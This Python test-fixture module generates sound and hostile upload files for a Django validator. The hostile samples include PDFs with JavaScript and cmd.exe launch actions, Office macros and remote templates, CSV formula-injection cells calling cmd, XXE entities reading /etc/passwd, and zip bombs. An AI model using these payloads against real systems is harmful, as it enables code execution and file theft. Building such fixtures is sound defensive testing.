"""Files to upload: sound ones of every type, ones that are not what they say, and ones that could act by themselves."""

import io
import zipfile
import zlib
from collections.abc import Mapping
from functools import partial

import pikepdf
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

CONTENT_TYPES = "[Content_Types].xml"
MANIFEST = "META-INF/manifest.xml"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OFFICE = "application/vnd.openxmlformats-officedocument"
DOCX, XLSX = f"{OFFICE}.wordprocessingml.document.main+xml", f"{OFFICE}.spreadsheetml.sheet.main+xml"
MACRO_RELATION = "http://schemas.microsoft.com/office/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OF_A_LETTER = f"{OFFICE}.wordprocessingml.document"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
JAVASCRIPT = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def image(kind: str = "PNG", size: tuple[int, int] = (8, 8)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, "green").save(buffer, kind)
    return buffer.getvalue()


def archive(members: Mapping[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in members.items():
            file.writestr(name, content)
    return buffer.getvalue()


# --- PDF ---


def pdf(change=None, *, pages: int = 1, user: str = "", owner: str = "") -> bytes:
    """A PDF to which `change` does something."""
    buffer = io.BytesIO()
    with pikepdf.new() as file:
        for _page in range(pages):
            file.add_blank_page()
        if change is not None:
            change(file)
        encryption = pikepdf.Encryption(owner=owner or user, user=user) if user or owner else False
        file.save(buffer, encryption=encryption, deterministic_id=not encryption)
    return buffer.getvalue()


def fresh(value):
    """The same once more: what stands in one PDF cannot stand in another."""
    return pikepdf.Object.parse(value.unparse()) if isinstance(value, pikepdf.Object) else value


def annotated(**parts):
    """A PDF with something on its page that a reader can press."""

    def change(file):
        note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]))
        for name, value in parts.items():
            note[f"/{name}"] = fresh(value)
        file.pages[0].Annots = Array([file.make_indirect(note)])

    return pdf(change)


def in_catalog(**parts):
    def change(file):
        for name, value in parts.items():
            file.Root[f"/{name}"] = fresh(value)

    return pdf(change)


def on_page(**parts):
    def change(file):
        for name, value in parts.items():
            file.pages[0].obj[f"/{name}"] = fresh(value)

    return pdf(change)


def attached(file):
    file.attachments["virus.exe"] = b"MZ"


def action(name: str, **parts):
    return Dictionary(S=Name(f"/{name}"), **parts)


def named_script(file):
    run = Array([String("run"), file.make_indirect(fresh(JAVASCRIPT))])
    file.Root.Names = Dictionary({"/JavaScript": Dictionary(Names=run)})


def nobody_leads_to_it(file):
    """A script that is in the file, but that no page or catalog names."""
    file.Root.PieceInfo = Dictionary(Kept=file.make_indirect(fresh(JAVASCRIPT)))


# --- Office ---


def relations(*pairs: tuple[str, str], outside: bool = False) -> str:
    mode = ' TargetMode="External"' if outside else ""
    inside = "".join(
        f'<Relationship Id="r{n}" Type="{kind if ":" in kind else f"{RELATION}/{kind}"}" Target="{target}"{mode}/>'
        for n, (kind, target) in enumerate(pairs)
    )
    return f'<Relationships xmlns="{PACKAGE}/relationships">{inside}</Relationships>'


def office(main: str, extra: Mapping[str, str | bytes] | None = None, types: Mapping[str, str] | None = None) -> bytes:
    """An Office file: with more parts than it needs, and with types of those, by their endings or their names."""
    place = "word/document.xml" if "wordprocessingml" in main else "xl/workbook.xml"
    known = {"rels": "application/vnd.openxmlformats-package.relationships+xml", "xml": "application/xml"}
    written = "".join(
        f'<Override PartName="{name}" ContentType="{kind}"/>'
        if name.startswith("/")
        else f'<Default Extension="{name}" ContentType="{kind}"/>'
        for name, kind in {**known, f"/{place}": main, **(types or {})}.items()
    )
    members: dict[str, str | bytes] = {
        CONTENT_TYPES: f'<?xml version="1.0"?><Types xmlns="{PACKAGE}/content-types">{written}</Types>',
        "_rels/.rels": relations(("officeDocument", place)),
        place: "<document/>",
    }
    return archive(members | dict(extra or {}))


def docx(extra: Mapping[str, str | bytes] | None = None, types: Mapping[str, str] | None = None) -> bytes:
    return office(DOCX, extra, types)


def xlsx(extra: Mapping[str, str | bytes] | None = None, types: Mapping[str, str] | None = None) -> bytes:
    return office(XLSX, extra, types)


def related(kind: str, target: str, *, outside: bool = False) -> bytes:
    """A letter with such a relation."""
    return docx({"word/_rels/document.xml.rels": relations((kind, target), outside=outside)})


def open_document(kind: str = "text", extra: Mapping[str, str | bytes] | None = None, content: str = "") -> bytes:
    text = f'<office:document xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0">{content}</office:document>'
    members: dict[str, str | bytes] = {
        "mimetype": f"application/vnd.oasis.opendocument.{kind}",
        MANIFEST: "<manifest/>",
        "content.xml": text,
        "styles.xml": "<styles/>",
        "Pictures/10000.png": image(),
        "Configurations2/accelerator/current.xml": "",
        "Configurations2/images/Bitmaps/": "",
    }
    return archive(members | dict(extra or {}))


def with_a_flag(content: bytes, flag: int) -> bytes:
    """An archive whose parts all say this of themselves."""
    changed = bytearray(content)
    for start, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(start)
        while at >= 0:
            changed[at + place] |= flag
            at = changed.find(start, at + 4)
    return bytes(changed)


def lying_about_size() -> bytes:
    """Each part says to be one byte long."""
    changed = bytearray(docx({"word/header1.xml": "a" * 1_000_000}))
    at = changed.find(b"PK\x01\x02")
    while at >= 0:
        changed[at + 24 : at + 28] = (1).to_bytes(4, "little")
        at = changed.find(b"PK\x01\x02", at + 4)
    return bytes(changed)


def many_parts() -> bytes:
    return docx({f"word/media/image{number}.png": b"" for number in range(20_000)}, {"png": "image/png"})


def nested(depth: int) -> bytes:
    """A letter in a letter in a letter."""
    inside = docx() if depth == 0 else nested(depth - 1)
    return docx({"word/embeddings/a.docx": inside}, {"docx": OF_A_LETTER})


def letter(words: str, declared: str = "") -> bytes:
    return docx({"word/document.xml": f'{declared}<w:document xmlns:w="{WORD}"><w:p>{words}</w:p></w:document>'})


FROM_THIS_MACHINE = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def png_of(name: bytes, content: bytes) -> bytes:
    """A picture with a piece of another kind in it."""
    piece = len(content).to_bytes(4, "big") + name + content + zlib.crc32(name + content).to_bytes(4, "big")
    sound = image()
    return sound[:33] + piece + sound[33:]


def pages_in_a_ring(file: pikepdf.Pdf) -> None:
    file.Root.Pages.Kids.append(file.Root.Pages)


def much_to_draw(file: pikepdf.Pdf) -> None:
    """A page of which the drawing grows a thousand times when it is read."""
    file.pages[0].Contents = pikepdf.Stream(file, zlib.compress(b"BT (x) Tj ET " * 4_000_000), Filter=Name.FlateDecode)


def bomb() -> bytes:
    """An Office file of some hundred kilobytes that would unpack to more than the limit."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr(CONTENT_TYPES, b"<xml/>")
        with file.open("word/document.xml", "w") as member:
            for _megabyte in range(320):
                member.write(bytes(1024 * 1024))
    return buffer.getvalue()


def unpacks_to_very_much(file: pikepdf.Pdf) -> None:
    """A stream that somebody may look at, and that grows a thousand times when it is read."""
    file.Root.PieceInfo = Dictionary(Kept=Array([Dictionary(N=number) for number in range(1_000_000)]))


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


CHART_TYPES = {
    "xlsx": f"{OFFICE}.spreadsheetml.sheet",
    "/word/charts/chart1.xml": f"{OFFICE}.drawingml.chart+xml",
    "png": "image/png",
}
WITH_A_CHART = docx(
    {
        "word/charts/chart1.xml": "<chart/>",
        "word/charts/_rels/chart1.xml.rels": relations(("package", "../embeddings/Microsoft_Excel_Sheet.xlsx")),
        "word/embeddings/Microsoft_Excel_Sheet.xlsx": xlsx(),
        "word/media/image1.png": image(),
        "word/_rels/document.xml.rels": relations(("hyperlink", "https://www.wooncooperatie.example"), outside=True),
        "word/_rels/settings.xml.rels": relations(
            ("attachedTemplate", "file:///C:\\Sjablonen\\Brief.dotx"), outside=True
        ),
    },
    CHART_TYPES,
)

SOUND = {
    "begroting.pdf": pdf(),
    "foto.jpg": image("JPEG"),
    "foto.jpeg": image("JPEG"),
    "plattegrond.png": image(),
    "statuten.docx": docx(),
    "verslag met een grafiek.docx": WITH_A_CHART,
    "begroting.xlsx": xlsx(),
    "statuten.odt": open_document(),
    "begroting.ods": open_document("spreadsheet"),
    "leden.csv": "naam;euro\nAnna;€ 10\n".encode(),
    "uit een ouder programma.csv": "naam;euro\nRené;€ -10\n".encode("cp1252"),
    "HOOFDLETTERS.PDF": pdf(),
    "niet te bewerken.pdf": pdf(owner="geheim"),
    "uit de printer.pdf": b"\x1b%-12345X@PJL JOB\n@PJL ENTER LANGUAGE=PDF\n" + pdf(),
    "met links.pdf": annotated(A=action("URI", URI=String("https://www.wooncooperatie.example"))),
    "met een inhoudsopgave.pdf": in_catalog(OpenAction=action("GoTo", D=String("begin"))),
}

ACTIVE = {
    "a script by name": ("a.pdf", pdf(named_script), "een script"),
    "a script at opening": ("a.pdf", in_catalog(OpenAction=JAVASCRIPT), "een script"),
    "a script when the page shows": ("a.pdf", on_page(AA=Dictionary(O=JAVASCRIPT)), "een script"),
    "a script at closing": ("a.pdf", in_catalog(AA=Dictionary(WC=JAVASCRIPT)), "een script"),
    "a script in a link": ("a.pdf", annotated(A=JAVASCRIPT), "een script"),
    "a script behind a good action": (
        "a.pdf",
        annotated(A=action("GoTo", D=String("x"), Next=Array([JAVASCRIPT]))),
        "een script",
    ),
    "a script to which nothing leads": ("a.pdf", pdf(nobody_leads_to_it), "een script"),
    "a program that starts": ("a.pdf", annotated(A=action("Launch", F=String("cmd.exe"))), "start"),
    "a form that is sent away": ("a.pdf", annotated(A=action("SubmitForm", F=String("x"))), "gegevens"),
    "a link to a file": ("a.pdf", annotated(A=action("URI", URI=String("file:///etc/passwd"))), "gegevens"),
    "a link with a script": ("a.pdf", annotated(A=action("URI", URI=String("javascript:alert(1)"))), "gegevens"),
    "another file inside": ("a.pdf", pdf(attached), "bijlage"),
    "another file on a page": ("a.pdf", annotated(FS=Dictionary(F=String("a"), EF=Dictionary())), "bijlage"),
    "a portfolio": ("a.pdf", in_catalog(Collection=Dictionary()), "bijlage"),
    "a form of XFA": ("a.pdf", in_catalog(AcroForm=Dictionary(XFA=Array())), "formulier"),
    "a film": ("a.pdf", annotated(A=action("Rendition")), "film"),
    "macros": (
        "a.docx",
        docx({"word/vbaProject.bin": OLE}, {"bin": "application/vnd.ms-office.vbaProject"}),
        "macro",
    ),
    "macros by another name": (
        "a.xlsx",
        xlsx({"xl/theme/theme9.xml": "x"}, {"/xl/theme/theme9.xml": "application/vnd.ms-office.vbaProject"}),
        "macro",
    ),
    "a relation to macros": ("a.docx", related(f"{MACRO_RELATION}/vbaProject", "theme/theme9.xml"), "macro"),
    "a sheet of macros": (
        "a.xlsx",
        xlsx(
            {"xl/macrosheets/sheet1.xml": "<x/>"},
            {"/xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"},
        ),
        "macro",
    ),
    "a relation to a sheet of macros": ("a.docx", related(f"{MACRO_RELATION}/xlMacrosheet", "sheet9.xml"), "macro"),
    "a file that may run macros": ("a.docx", office("application/vnd.ms-word.document.macroEnabled.main+xml"), "macro"),
    "an object of another program": (
        "a.docx",
        docx({"word/embeddings/oleObject1.bin": OLE}, {"bin": f"{OFFICE}.oleObject"}),
        "programma",
    ),
    "an object that says it is a picture": (
        "a.docx",
        docx({"word/media/image1.png": OLE}, {"png": "image/png"}),
        "programma",
    ),
    "a workbook with macros inside": (
        "a.docx",
        docx(
            {
                "word/embeddings/a.xlsx": xlsx(
                    {"xl/vbaProject.bin": b"x"}, {"bin": "application/vnd.ms-office.vbaProject"}
                )
            },
            CHART_TYPES,
        ),
        "macro",
    ),
    "a template from elsewhere": (
        "a.docx",
        related("attachedTemplate", "https://kwaad.example/x.dotm", outside=True),
        "gegevens",
    ),
    "a template from another computer": (
        "a.docx",
        related("attachedTemplate", "file:////kwaad.example/x.dotm", outside=True),
        "gegevens",
    ),
    "a picture from elsewhere": ("a.docx", related("image", "https://kwaad.example/x.png", outside=True), "gegevens"),
    "a link to a file of somebody": (
        "a.docx",
        related("hyperlink", "file://x.example/x", outside=True),
        "gegevens",
    ),
    "a field that fetches": (
        "a.docx",
        docx({"word/header1.xml": "<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd</w:instrText>"}),
        "gegevens",
    ),
    "a program": ("a.docx", docx({"word/payload.exe": b"MZ"}), "programma"),
    "a macro of an open document": ("a.ods", open_document("spreadsheet", {"Basic/Standard/x.xml": "<x/>"}), "macro"),
    "a script of an open document": ("a.odt", open_document(extra={"Scripts/python/x.py": "x"}), "macro"),
    "an event of an open document": ("a.odt", open_document(content="<s:event-listener/>"), "macro"),
    "an object in an open document": ("a.odt", open_document(extra={"Object 1": OLE}), "programma"),
    "a cell that starts a program": ("a.csv", b"naam\n+cmd|'/c calc'!A0\n", "berekent"),
    "a cell that calculates": ("a.csv", b"naam;x\nAnna;=1+1\n", "berekent"),
    "a cell that calculates behind a tab": ("a.csv", b"naam\n\t=1+1\n", "berekent"),
    "a cell that calculates in quotes": ("a.csv", b'naam\n"=1+1"\n', "berekent"),
    "a cell that calculates in wide letters": ("a.csv", "naam;=1+1".encode("utf-16"), "berekent"),
    "a cell that begins with an at": ("a.csv", b"naam\n@SUM(1+1)*cmd|' /C calc'!A0\n", "berekent"),
    "a script under another spelling": (
        "a.pdf",
        in_catalog(OpenAction=JAVASCRIPT).replace(b"/JavaScript", b"/Java#53cript"),
        "een script",
    ),
    "a script in a field": (
        "a.pdf",
        in_catalog(AcroForm=Dictionary(Fields=Array([Dictionary(FT=Name.Tx, AA=Dictionary(C=JAVASCRIPT))]))),
        "een script",
    ),
    "a link with a script in two lines": (
        "a.pdf",
        annotated(A=action("URI", URI=String("java\nscript:alert(1)"))),
        "gegevens",
    ),
    "a link with a page in it": (
        "a.pdf",
        annotated(A=action("URI", URI=String("data:text/html,<script>x()</script>"))),
        "gegevens",
    ),
    "a PDF that opens a file of another computer": (
        "a.pdf",
        annotated(A=action("GoToR", F=String("\\\\kwaad.example\\x.pdf"))),
        "gegevens",
    ),
    "a PDF that takes data in": ("a.pdf", annotated(A=action("ImportData", F=String("x.fdf"))), "gegevens"),
    "a film on a page": ("a.pdf", annotated(Subtype=Name.RichMedia), "film"),
    "a model in three dimensions": ("a.pdf", annotated(Subtype=Name("/3D")), "film"),
    "a page of HTML in a letter": (
        "a.docx",
        docx({"word/chunk.html": "<script>"}, {"html": "text/html"}),
        "niet kennen",
    ),
    "a control that runs": (
        "a.docx",
        docx({"word/activeX/a.xml": "x"}, {"/word/activeX/a.xml": "application/vnd.ms-office.activeX+xml"}),
        "programma",
    ),
    "a script in a drawing in a letter": (
        "a.docx",
        docx({"word/media/image1.svg": "<svg onload='x()'/>"}, {"svg": "image/svg+xml"}),
        "een script",
    ),
    "a script in a drawing in an open letter": (
        "a.odt",
        open_document(extra={"Pictures/1.svg": "<svg><script>x()</script></svg>"}),
        "een script",
    ),
    "a workbook that asks another program": (
        "a.xlsx",
        xlsx({"xl/externalLinks/a.xml": "x"}, {"/xl/externalLinks/a.xml": f"{OFFICE}.spreadsheetml.externalLink+xml"}),
        "gegevens",
    ),
    "a workbook that asks a database": (
        "a.xlsx",
        xlsx({"xl/connections.xml": "x"}, {"/xl/connections.xml": f"{OFFICE}.spreadsheetml.connections+xml"}),
        "gegevens",
    ),
    "a letter that reads a file of this machine": ("a.docx", letter("&x;", FROM_THIS_MACHINE), "niet kennen"),
    "an open letter that reads a file of this machine": (
        "a.odt",
        open_document(extra={"content.xml": f"{FROM_THIS_MACHINE}<d>&x;</d>"}),
        "niet kennen",
    ),
    "a letter in a letter in a letter": ("a.docx", nested(3), "niet kennen"),
}

HARMLESS = {
    "a PDF with a page of HTML behind it": ("a.pdf", pdf() + b"<script>alert(1)</script>"),
    "a photo with a page of HTML behind it": ("a.jpg", image("JPEG") + b"<html><script>alert(1)</script>"),
    "a picture that is an archive too": ("a.png", image() + docx()),
    "a picture with a script in its remarks": ("a.png", png_of(b"tEXt", b"Comment\0<script>alert(1)</script>")),
    "a list that looks like a page": ("a.csv", b"<html><script>alert(1)</script></html>"),
    "a page that grows when it is drawn": ("a.pdf", partial(pdf, much_to_draw)),
    "a letter that nests very deep": ("a.docx", lambda: docx({"word/document.xml": "<a>" * 200_000})),
}
"""What is kept, because it can do nothing: it is only ever sent as a file of its own type, and read apart."""
